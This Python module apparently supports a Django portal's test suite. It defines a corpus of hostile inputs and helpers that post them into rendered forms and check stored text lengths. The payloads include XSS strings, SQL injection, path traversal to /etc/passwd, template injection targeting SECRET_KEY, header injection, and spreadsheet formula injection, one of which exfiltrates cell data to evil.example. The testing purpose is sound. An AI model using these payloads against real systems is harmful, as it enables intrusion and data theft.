"""Hostile input: a corpus of strings an attacker or an unlucky paste would send, and helpers
to post them into the forms a page renders and to check what the database kept.

Used by tests/test_hostile_input.py (every form field and query parameter of every URL in
tests/urlmap.py, with the test client) and tests/e2e/test_hostile_browser.py (stored values
shown in Chromium). Each payload has a short name: test ids and failure messages use it.

The script payloads set ``window.__pwned`` and call ``alert()``: if one ever runs in a page,
the browser test sees the flag or the dialog.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urljoin, urlsplit

import lxml.html
from django.apps import apps
from django.db import connection, models

from portal import limits

# The largest limit any free text of the portal has: a longer text is refused everywhere.
LARGEST_LIMIT = max(
    value for name, value in vars(limits).items() if name.isupper() and isinstance(value, int)
)
# The apps whose every stored text must stay within a declared limit (third-party apps' text
# columns are checked only where they declare a max_length).
PORTAL_APPS = frozenset({"portal", "directory", "workplan", "reports"})

# What a script payload sets when it runs (tests/e2e/test_hostile_browser.py reads it).
PWNED_FLAG = "__pwned"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # Longer than some limit on purpose: posted into one field at a time, never into a
    # choice field, and never stored anywhere on purpose by the browser tests.
    long: bool = False
    # Also tried as the value of selects and checkboxes (a forged choice).
    as_choice: bool = False
    # Also sent in query strings. Not the 5,000,000 characters: no server passes a URL that
    # long to the application (gunicorn stops at 4,094 bytes for the request line); the
    # 40,000-character value stands for a long parameter.
    in_query: bool = True
    # Runs script if a page ever shows it unescaped (sets window.__pwned, calls alert()).
    script: bool = False

    def __str__(self):
        return self.name


def _combining(base: str, count: int) -> str:
    """`base` followed by `count` combining marks (U+0300–U+036F, in turn): "Zalgo" text."""
    return base + "".join(chr(0x300 + i % 0x70) for i in range(count))


_LONG_WORD = ("Antidisestablishmentarianism" * 200)[:3_000]
_OVER_LIMIT = ("Over every limit of the portal. " * (LARGEST_LIMIT // 3 + 1))[: LARGEST_LIMIT * 10]

CORPUS: tuple[Payload, ...] = (
    # --- Script (HTML contexts: text, attributes, URLs, raw-text elements) ---
    Payload(
        "xss_script",
        '<script>window.__pwned=1;alert("xss-script")</script>',
        as_choice=True,
        script=True,
    ),
    Payload(
        "xss_attribute_breakout",
        '"><img src=x onerror="window.__pwned=1;alert(\'xss-img\')">',
        as_choice=True,
        script=True,
    ),
    Payload(
        "xss_single_quote_breakout",
        "'><svg onload=\"window.__pwned=1;alert('xss-svg-quote')\">",
        script=True,
    ),
    Payload("xss_svg_onload", "<svg/onload=window.__pwned=1;alert('xss-svg')>", script=True),
    Payload(
        "xss_raw_text_breakout",
        "</textarea></title></style></script><script>window.__pwned=1;alert('xss-raw')</script>",
        script=True,
    ),
    Payload("xss_javascript_url", "javascript:window.__pwned=1;alert('xss-js-url')//", script=True),
    Payload(
        "xss_iframe_srcdoc",
        "<iframe srcdoc=\"<script>parent.__pwned=1;parent.alert('xss-srcdoc')</script>\"></iframe>",
        script=True,
    ),
    # --- Template languages: Django's and Typst's (the PDF layout) ---
    Payload("django_variable", "{{ settings.SECRET_KEY }} {{ request.user.password }}"),
    Payload("django_tags", "{% debug %}{% load static %}{% csrf_token %}{# comment #}"),
    Payload("typst_read", '#read("/etc/passwd") #import "/etc/passwd": *'),
    Payload(
        "typst_markup",
        '#set page(width: 1pt) #pagebreak() $ x^2 $ $ ] ] [ \\ \\ #{ "a" } *bold _em <label> @ref',
    ),
    Payload("typst_unbalanced", "$ [ ( { \\"),
    # --- SQL, paths, redirects, headers ---
    Payload("sql_or", "' OR 1=1 --", as_choice=True),
    Payload("sql_drop", '1; DROP TABLE workplan_action; --" OR ""="', as_choice=True),
    Payload("path_traversal", "../../../../etc/passwd", as_choice=True),
    Payload("path_traversal_encoded", "..%2F..%2F..%2Fetc%2Fpasswd%00.pdf"),
    Payload("external_redirect", "//evil.example/path"),
    Payload("header_injection", "line\r\nSet-Cookie: pwned=1\r\nX-Injected: 1"),
    # --- Characters that break layouts and file formats ---
    Payload("null_byte", "before\x00after", as_choice=True),
    Payload("control_characters", "bell\x07 escape\x1b[31m vtab\x0b formfeed\x0c del\x7f"),
    Payload("bidi_override_unpaired", "\u202eevil.exe txt.pdf and the rest of the cell"),
    Payload("bidi_isolate_unpaired", "\u2067open isolate \u202b and embedding"),
    Payload("zero_width", "zero\u200bwidth\u200cjoiner\u200dand\ufeffBOM"),
    Payload("combining_marks", _combining("Z", 300) + " and " + _combining("a", 100)),
    Payload(
        "emoji",
        "Family 👨\u200d👩\u200d👧\u200d👦, flags 🇨🇦🇫🇷, skin tones 👍🏽, keycap 1️⃣",
        as_choice=True,
    ),
    Payload("right_to_left_text", "مرحبا بالعالم שלום עולם"),
    Payload("whitespace_only", " \t\u00a0\u2003 "),
    # --- Spreadsheet formulas (CSV and Excel injection) ---
    Payload(
        "formula_hyperlink", '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    ),
    Payload("formula_plus_cmd", "+cmd|' /C calc'!A0"),
    Payload("formula_at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("formula_minus_tab", "-2+3+cmd|' /C calc'!A0\t=1+1"),
    # --- Values out of range for typed fields (dates, numbers) ---
    Payload("date_far_future", "9999-12-31", as_choice=True),
    Payload("date_year_one", "0001-01-01"),
    Payload("number_huge", "99999999999999999999999999", as_choice=True),
    Payload("number_negative", "-1"),
    # --- Length ---
    Payload("long_word", _LONG_WORD, long=True),
    Payload("over_every_limit", _OVER_LIMIT, long=True),
    Payload("oversize_5m", "x" * 5_000_000, long=True, in_query=False),
)

BY_NAME = {payload.name: payload for payload in CORPUS}
assert len(BY_NAME) == len(CORPUS), "two payloads share a name"

SCRIPT_PAYLOADS = tuple(payload for payload in CORPUS if payload.script)


# --- Forms as a page renders them -----------------------------------------------------------

TEXT = "text"  # typed by the user: text, textarea, password, email, number, date, …
CHOICE = "choice"  # picked: select, checkbox, radio
HIDDEN = "hidden"

_NOT_SUBMITTED = frozenset({"submit", "button", "reset", "image", "file"})
_FORMSET_ROW = re.compile(r"^(?P<prefix>.+)-(?P<index>\d+)-(?P<name>[^-]+)$")


@dataclass
class FormField:
    name: str
    kind: str
    # What the browser submits for it as rendered (several for a multiple choice).
    values: list[str] = field(default_factory=list)
    # For a checkbox with no value attribute (a boolean: any value means "checked").
    boolean: bool = False
    # Marked as refused by the page (aria-invalid, or Bootstrap's is-invalid).
    invalid: bool = False


@dataclass
class HtmlForm:
    """A form of a page: where it goes and what a browser would send as rendered."""

    page: str  # the path of the page that rendered it
    action: str  # the path it is submitted to (no query string, no fragment)
    method: str
    id: str
    fields: dict[str, FormField]

    def submission(self, **replaced: str) -> dict[str, list[str]]:
        """The data a browser sends for the form as rendered, with some fields replaced."""
        data = {name: list(f.values) for name, f in self.fields.items() if f.values}
        for name, value in replaced.items():
            data[name] = [value]
        return data

    def fuzzed_fields(self) -> list[FormField]:
        """The fields to put hostile values in: every typed or picked field (not the hidden
        ones: CSRF token, version, formset counters, ids), and of each formset column only
        its first and its last row (an existing item and the blank one)."""
        rows: dict[tuple[str, str], list[int]] = {}
        for name in self.fields:
            match = _FORMSET_ROW.match(name)
            if match:
                key = (match["prefix"], match["name"])
                rows.setdefault(key, []).append(int(match["index"]))
        chosen = []
        for name, form_field in self.fields.items():
            if form_field.boolean:
                continue
            if form_field.kind == HIDDEN and name != "next":
                continue
            match = _FORMSET_ROW.match(name)
            if match:
                indexes = rows[(match["prefix"], match["name"])]
                if int(match["index"]) not in (min(indexes), max(indexes)):
                    continue
            chosen.append(form_field)
        return chosen


def _inside_template(element) -> bool:
    """True inside a <template> (a formset's blank row for the "add another" button): a
    browser does not submit it."""
    return bool(element.xpath("ancestor::template"))


def _marked_invalid(element) -> bool:
    return element.get("aria-invalid") == "true" or "is-invalid" in (element.get("class") or "")


def forms_in_main(html: bytes | str, page_path: str) -> list[HtmlForm]:
    """Every form inside <main>, with its fields as a browser would submit them."""
    doc = lxml.html.fromstring(html)
    found = []
    for form in doc.xpath("//main//form"):
        action = urljoin(page_path, form.get("action") or page_path)
        fields: dict[str, FormField] = {}
        for element in form.xpath(".//input|.//textarea|.//select"):
            name = element.get("name")
            if not name or element.get("disabled") is not None or _inside_template(element):
                continue
            tag = element.tag
            if tag == "textarea":
                # HTML drops the one line break that follows the opening tag.
                text = element.text or ""
                text = text[2:] if text.startswith("\r\n") else text.removeprefix("\n")
                fields[name] = FormField(name, TEXT, [text], invalid=_marked_invalid(element))
            elif tag == "select":
                options = [o for o in element.xpath(".//option") if o.get("disabled") is None]
                selected = [o for o in options if o.get("selected") is not None]
                if not selected and options and element.get("multiple") is None:
                    selected = options[:1]  # a browser submits the first option
                values = [
                    o.get("value") if o.get("value") is not None else (o.text or "").strip()
                    for o in selected
                ]
                fields[name] = FormField(name, CHOICE, values, invalid=_marked_invalid(element))
            else:
                kind = (element.get("type") or "text").lower()
                if kind in _NOT_SUBMITTED:
                    continue
                if kind in ("checkbox", "radio"):
                    existing = fields.setdefault(
                        name, FormField(name, CHOICE, boolean=element.get("value") is None)
                    )
                    existing.invalid |= _marked_invalid(element)
                    if element.get("checked") is not None:
                        existing.values.append(element.get("value") or "on")
                elif kind == "hidden":
                    fields[name] = FormField(name, HIDDEN, [element.get("value") or ""])
                else:
                    fields[name] = FormField(
                        name, TEXT, [element.get("value") or ""], invalid=_marked_invalid(element)
                    )
        found.append(
            HtmlForm(
                page=page_path,
                action=urlsplit(action).path,
                method=(form.get("method") or "get").lower(),
                id=form.get("id") or "",
                fields=fields,
            )
        )
    return found


def links_in_main(html: bytes | str, page_path: str) -> list[str]:
    """The targets of the links inside <main> that stay on the portal (paths with queries)."""
    doc = lxml.html.fromstring(html)
    targets = []
    for link in doc.xpath("//main//a[@href]"):
        href = urljoin(page_path, link.get("href"))
        parts = urlsplit(href)
        if parts.scheme or parts.netloc or not parts.path.startswith("/"):
            continue
        targets.append(parts.path + (f"?{parts.query}" if parts.query else ""))
    return targets


# --- What the database kept -----------------------------------------------------------------


def declared_limit(model_field: models.Field) -> int | None:
    """The most characters the field accepts: its max_length or its MaxLengthValidator."""
    declared = [model_field.max_length] if model_field.max_length else []
    declared += [
        validator.limit_value
        for validator in model_field.validators
        if getattr(validator, "code", None) == "max_length"
        and isinstance(getattr(validator, "limit_value", None), int)
    ]
    return min(declared) if declared else None


def _text_columns() -> Iterator[tuple[type[models.Model], models.Field]]:
    for model in apps.get_models():
        if model._meta.proxy or not model._meta.managed:
            continue
        ours = model._meta.app_label in PORTAL_APPS
        for column in model._meta.local_concrete_fields:
            if column.get_internal_type() in ("CharField", "TextField") and (
                ours or declared_limit(column) is not None
            ):
                yield model, column


@functools.cache
def _longest_query() -> tuple[list[tuple[type[models.Model], models.Field]], str]:
    """Every text column, and one query for the longest value of each (run after every
    request of the hostile-input tests: one statement, not one per model)."""
    columns = list(_text_columns())
    name = connection.ops.quote_name
    # Names from the models' own metadata, quoted: nothing from outside goes in.
    lengths = ", ".join(
        f"(SELECT MAX(LENGTH({name(column.column)})) FROM {name(model._meta.db_table)})"  # noqa: S608
        for model, column in columns
    )
    return columns, f"SELECT {lengths}"


def texts_over_their_limit() -> list[str]:
    """Each stored text column whose longest value is over the column's limit.

    A portal text without a declared limit is held to the largest limit in portal/limits.py:
    nothing longer is valid anywhere.
    """
    columns, query = _longest_query()
    with connection.cursor() as cursor:
        cursor.execute(query)
        longest = cursor.fetchone()
    problems = []
    for (model, column), length in zip(columns, longest, strict=True):
        limit = declared_limit(column)
        allowed = limit if limit is not None else LARGEST_LIMIT
        if (length or 0) > allowed:
            problems.append(
                f"{model._meta.label}.{column.attname}: {length:,} characters stored, "
                + (
                    f"over its limit of {limit:,}"
                    if limit is not None
                    else f"no declared limit (the largest in portal/limits.py is {LARGEST_LIMIT:,})"
                )
            )
    return problems
